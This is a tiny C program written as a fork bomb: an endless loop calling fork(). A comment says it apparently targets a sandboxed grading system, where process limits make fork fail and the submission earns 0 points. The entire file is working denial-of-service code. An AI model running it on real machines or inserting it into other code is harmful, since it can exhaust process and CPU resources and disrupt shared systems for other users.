// A fork bomb. The number of processes is limited, fork fails soon, and all that there are run in
// circles until their common CPU time is used up: 0 points. Nobody else on the machine may notice.
#include <unistd.h>

int main() {
    for (;;)
        fork();
}
